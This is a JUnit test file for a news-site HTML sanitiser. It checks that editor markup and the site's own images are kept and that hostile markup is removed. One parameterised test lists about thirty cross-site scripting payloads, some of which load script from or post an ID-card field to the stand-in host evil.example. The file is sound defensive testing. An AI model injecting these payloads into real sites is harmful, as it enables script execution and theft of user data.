package village.infra.news.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import village.api.attachment.Attachment;
import village.api.news.RichText;

class AllowedHtmlTest {
    private static final String ID = "0198c0de-0000-7000-8000-000000000001";

    private final AllowedHtml sanitiser = new AllowedHtml();

    @Test
    void keepsWhatEditorsWrite() {
        var html = "<h2>停水通知</h2><p>周三<strong>上午</strong>停水。</p><ul><li>东片</li><li>西片</li></ul>"
                + "<table><tbody><tr><th colspan=\"2\">时间</th></tr><tr><td>8 点</td><td>9 点</td></tr></tbody></table>";
        assertThat(clean(html)).isEqualTo(html);
    }

    @Test
    void keepsTheWordsForSearchAndChecks() {
        var text = sanitiser
                .clean("<h2>停水</h2><p>周三<b>上</b>午</p><table><tr><td>东片</td><td>8 点</td></tr></table>")
                .text();
        assertThat(text).isEqualTo("停水\n周三上午\n东片\t8 点");
    }

    @Test
    void keepsOurOwnPicturesOnly() {
        var cleaned =
                sanitiser.clean("<img src=\"/console/v1/villages/330999101201/attachments/" + ID + "\" alt=\"水库\">"
                        + "<img src=\"https://evil.example/x.png\"><img src=\"data:image/png;base64,AAAA\">"
                        + "<img src=\"//evil.example/attachments/" + ID + "\"><img alt=\"空\">");
        assertThat(cleaned.html()).isEqualTo("<img src=\"attachment:" + ID + "\" alt=\"水库\" />");
        assertThat(cleaned.images()).containsExactly(new Attachment.Id(UUID.fromString(ID)));
    }

    @Test
    void linksGoOutWithoutTellingWhereFrom() {
        assertThat(clean("<a href=\"https://www.gov.cn/\" target=\"x\" onclick=\"y()\">政策</a>"))
                .isEqualTo("<a href=\"https://www.gov.cn/\" rel=\"nofollow noopener noreferrer\">政策</a>");
    }

    /** What a page drops would be glued to its neighbours, and read otherwise than the publish gate read it. */
    @Test
    void pagesShowEveryElementThatIsKept() throws IOException {
        assertThat(shownByPages())
                .contains("IMG")
                .containsAll(AllowedHtml.ELEMENTS.stream()
                        .map(element -> element.toUpperCase(Locale.ROOT))
                        .toList());
    }

    private static List<String> shownByPages() throws IOException {
        try (var file = AllowedHtmlTest.class.getResourceAsStream("/static/shared/rich.js")) {
            var script = new String(file.readAllBytes(), StandardCharsets.UTF_8);
            var kept = script.substring(script.indexOf("const KEPT = "), script.indexOf("const GONE = "));
            return Pattern.compile("'([A-Z0-9]+)'")
                    .matcher(kept)
                    .results()
                    .map(match -> match.group(1))
                    .toList();
        }
    }

    @Test
    void aPictureIsNotMadeFromText() {
        var cleaned = sanitiser.clean("<p>&lt;img src=\"attachment:" + ID + "\"&gt;</p>");
        assertThat(cleaned.images()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"attachment:" + ID + "\" onerror=\"alert(1)\">",
                "<svg onload=alert(1)><animate onbegin=alert(1)>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
                        + " onerror=alert(1)&gt;\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<style>*{background:url(javascript:alert(1))}</style>",
                "<p style=\"position:fixed;top:0\">x</p>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"java&#9;script:alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"attachment:" + ID + "\">x</a>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
                "<form action=\"https://evil.example\"><input name=idcard><button>提交</button></form>",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                "<base href=\"https://evil.example/\">",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<template><script>alert(1)</script></template>",
                "<textarea><script>alert(1)</script></textarea>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<p id=\"x\" class=\"y\" name=\"z\">x</p>",
                "<video src=x onerror=alert(1)></video><audio src=x></audio>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>"
            })
    void leavesNothingToRunOrLoad(String attack) {
        var cleaned = clean("<p>前</p>" + attack + "<p>后</p>");
        assertThat(cleaned)
                .doesNotContainIgnoringCase("<script")
                .doesNotContainPattern("(?i)<[^>]*\\son[a-z]+\\s*=")
                .doesNotContainPattern("(?i)<[^>]*(javascript|vbscript|data):")
                .doesNotContainPattern(
                        "(?i)<(svg|math|style|iframe|object|embed|form|input|meta|base|link|template|video|audio|details|marquee|xmp)\\b")
                .doesNotContainPattern("(?i)<[^>]*\\s(style|class|id|name|srcdoc|target)\\s*=")
                .doesNotContain("evil.example/")
                .doesNotContain("<a href=\"attachment");
        assertThat(clean(cleaned)).isEqualTo(cleaned);
    }

    @Test
    void longAndDeepTextEndsInTime() {
        assertThat(clean("<div>".repeat(20_000) + "深").length()).isLessThan(1_000_000);
        assertThat(clean("<".repeat(100_000))).doesNotContain("<<");
        assertThat(sanitiser.clean("字".repeat(100_000)).text()).hasSize(100_000);
    }

    private String clean(String html) {
        return sanitiser.clean(html).html();
    }

    @Test
    void nothingComesOfNothing() {
        assertThat(sanitiser.clean(" ")).isEqualTo(new RichText("", "", List.of()));
    }
}
